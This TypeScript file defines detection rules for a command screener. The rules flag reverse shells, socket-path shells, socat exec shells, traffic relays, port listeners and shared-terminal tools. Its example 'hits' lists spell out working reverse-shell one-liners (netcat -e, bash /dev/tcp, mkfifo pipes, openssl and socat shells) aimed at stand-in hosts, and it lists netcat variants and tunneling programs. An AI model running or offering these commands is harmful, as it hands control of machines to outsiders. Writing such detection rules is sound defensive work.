/** Shells handed to the network, and doors opened for it. */
import { type Call, downstreamOf, upstreamOf } from '../../shell/call.ts'
import { shells } from '../../shell/wrappers.ts'
import type { CommandRule } from './command-rule.ts'
import { isShell, readsProgramFromInput } from './network-programs.ts'

const NETCATS = [
  'nc',
  'ncat',
  'netcat',
  'nc.openbsd',
  'nc.traditional',
  'pwncat',
  'rustcat',
  'rcat',
  'socket',
  'cryptcat',
  'sbd',
]
const CONNECTORS = new Set([...NETCATS, 'telnet', 'socat', 'openssl', 'ssh', 'curl'])
const SOCKET_PATH = /\/dev\/(?:tcp|udp)\//

const listens = (call: Call) =>
  call.args.some((arg) => (/^-[a-zA-Z46]+\d{0,5}$/.test(arg) && arg.includes('l')) || arg === '--listen')
/** `-e /bin/sh` and `-c bash`, but not the `-c` of a program that only compresses. */
const runsProgram = (call: Call) =>
  call.args.some(
    (arg, at) =>
      /^--(?:exec|sh-exec|lua-exec)/.test(arg) ||
      (/^-[a-zA-Z]*[ec]$/.test(arg) &&
        /(?:^|\/)(?:(?:ba|z|da|k|c|a)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|python\d?|perl|busybox)\b/.test(
          call.args[at + 1] ?? '',
        )) ||
      /^-[a-zA-Z]*e(?:\/|cmd)/.test(arg),
  ) ||
  (call.program === 'socket' &&
    call.args.some((arg) => /^-[a-z]*p/.test(arg)) &&
    call.args.some((arg) => /\bsh\b/.test(arg)))

export const remoteShells: readonly CommandRule[] = [
  {
    id: 'shell.network-shell',
    level: 'critical',
    why: 'Gives a shell on this machine to another one over the network.',
    programs: NETCATS,
    matches: (call) => runsProgram(call),
    examples: {
      hits: ['nc -e /bin/sh 198.51.100.7 4444', 'ncat --exec /bin/bash -l 9000', 'busybox nc -lp 9000 -e sh'],
      misses: ['nc -zv web1 443', 'nc -l 9000', 'echo "nc -e /bin/sh"'],
    },
  },
  {
    id: 'shell.socket-path-shell',
    level: 'critical',
    why: 'Connects a shell to another machine through a network path.',
    programs: [...shells, 'exec', ''],
    matches: (call) =>
      (call.redirections.some(({ target }) => SOCKET_PATH.test(target)) &&
        (isShell(call) ||
          call.program === 'exec' ||
          call.program === '' ||
          call.wrappers.includes('exec'))) ||
      (isShell(call) &&
        [...upstreamOf(call)].some((other) =>
          other.redirections.some(({ target }) => SOCKET_PATH.test(target)),
        )),
    examples: {
      hits: [
        'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
        'exec 5<>/dev/tcp/198.51.100.7/4444',
        "bash -c 'sh -i &>/dev/udp/drop.example/53 <&1'",
      ],
      misses: ['echo hi > /dev/null', 'echo > /dev/tcp/localhost/22', "echo 'bash -i >& /dev/tcp/x/1'"],
    },
  },
  {
    id: 'shell.piped-network-shell',
    level: 'critical',
    why: 'Feeds a shell from the network, or sends a shell into it.',
    programs: [...shells],
    matches: (call) => {
      if (!isShell(call) || call.args.some((arg) => /^-[a-z]*c$/.test(arg))) return false
      const fed = upstreamOf(call).some(
        (other) => /^(?:nc|ncat|netcat|telnet|socat|openssl)$/.test(other.program) && other.args.length > 0,
      )
      const feeding = downstreamOf(call).some(
        (other) => CONNECTORS.has(other.program) && other.program !== 'curl' && other.program !== 'ssh',
      )
      return (
        (fed && readsProgramFromInput(call)) ||
        (feeding &&
          (call.args.includes('-i') ||
            call.redirections.some(({ operator }) => operator.startsWith('<')) ||
            call.args.length === 0))
      )
    },
    examples: {
      hits: [
        'mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | nc 198.51.100.7 4444 > /tmp/p',
        'nc 198.51.100.7 4444 | sh',
        'sh </tmp/p | openssl s_client -connect drop.example:443 > /tmp/p',
      ],
      misses: ['nc -zv web1 80', 'sh build.sh | tee log', 'echo ls | sh'],
    },
  },
  {
    id: 'shell.socat-shell',
    level: 'critical',
    why: 'Connects a program on this machine to the network.',
    programs: ['socat'],
    matches: (call) =>
      call.args.some((arg) => /^(?:exec|system|shell):/i.test(arg)) &&
      call.args.some((arg) => /^(?:tcp|udp|openssl|ssl|sctp|vsock)[\w-]{0,20}:/i.test(arg)),
    examples: {
      hits: ['socat TCP:198.51.100.7:4444 EXEC:/bin/sh,pty', 'socat tcp-listen:9000,fork system:bash'],
      misses: ['socat - TCP:localhost:80', 'socat -V'],
    },
  },
  {
    id: 'shell.relay',
    level: 'high',
    why: 'Passes network traffic on between two connections.',
    programs: NETCATS,
    matches: (call) =>
      upstreamOf(call).some((other) => NETCATS.includes(other.program)) ||
      (listens(call) &&
        call.redirections.some(({ operator }) => operator === '<') &&
        downstreamOf(call).some((other) => NETCATS.includes(other.program))),
    examples: {
      hits: ['mknod p p; nc -l -p 8080 < p | nc 10.1.1.9 80 > p'],
      misses: ['nc -l 8080', 'nc web1 80'],
    },
  },
  {
    id: 'shell.listener',
    level: 'medium',
    why: 'Opens a port that others can connect to.',
    programs: [
      ...NETCATS,
      'socat',
      'ngrok',
      'cloudflared',
      'localtunnel',
      'bore',
      'frpc',
      'chisel',
      'ssh',
      'python',
      'python3',
      'php',
      'ruby',
      'twistd',
      'inlets',
      'zrok',
      'tailscale',
    ],
    matches: (call, options) => {
      if (options.hasAny('--help', '--version')) return false
      switch (call.program) {
        case 'socat':
          return call.args.some((arg) => /^(?:tcp|udp|openssl|ssl)\d?-l(?:isten)?:/i.test(arg))
        case 'ngrok':
          return /^(?:http|tcp|tls|start)$/.test(options.words[0] ?? '')
        case 'cloudflared':
          return options.words[0] === 'tunnel' && !/^(?:list|info|login)$/.test(options.words[1] ?? '')
        case 'tailscale':
          return options.words[0] === 'funnel'
        case 'ssh':
          return call.args.some((arg) => /^-[a-zA-Z]*R/.test(arg))
        case 'python':
        case 'python3':
          return (
            call.args.some((arg) =>
              /^(?:http\.server|SimpleHTTPServer|pyftpdlib|smtpd|uploadserver)$/.test(arg),
            ) && call.args.some((arg) => /^(?:0\.0\.0\.0|::)$/.test(arg) || arg === 'pyftpdlib')
          )
        case 'php':
          return call.args.includes('-S') && call.args.some((arg) => arg.startsWith('0.0.0.0'))
        case 'ruby':
        case 'twistd':
          return call.args.includes('-run') && call.args.includes('-b')
        case 'localtunnel':
        case 'bore':
        case 'frpc':
        case 'chisel':
        case 'inlets':
        case 'zrok':
          return call.args.length > 0
        default:
          return listens(call)
      }
    },
    examples: {
      hits: [
        'nc -lvp 9000',
        'ncat -l 9000',
        'socat TCP-LISTEN:9000 -',
        'ssh -R 9000:localhost:22 web1',
        'ngrok http 3000',
      ],
      misses: ['nc -zv web1 443', 'ssh web1', 'python3 -m http.server'],
    },
  },
  {
    id: 'shell.shared-terminal',
    level: 'high',
    why: 'Offers control of this machine to somebody outside.',
    programs: [
      'code',
      'code-insiders',
      'tmate',
      'teleconsole',
      'sshx',
      'gotty',
      'ttyd',
      'wetty',
      'gsocket',
      'gs-netcat',
      'devtunnel',
      'xterm',
      'upterm',
    ],
    matches: (call, options) => {
      if (options.hasAny('--help', '--version', '-v', '-V', '-h')) return false
      if (call.program === 'code' || call.program === 'code-insiders')
        return options.words[0] === 'tunnel' || options.words[0] === 'serve-web'
      if (call.program === 'xterm') return options.has('-display')
      if (call.program === 'devtunnel') return options.words[0] === 'host'
      return call.program !== 'tmate' || !options.has('-c') || call.args.length > 0
    },
    examples: {
      hits: ['code tunnel', 'ttyd bash', 'xterm -display 198.51.100.7:1', 'tmate'],
      misses: ['code .', 'ttyd --version', 'tmux new'],
    },
  },
]
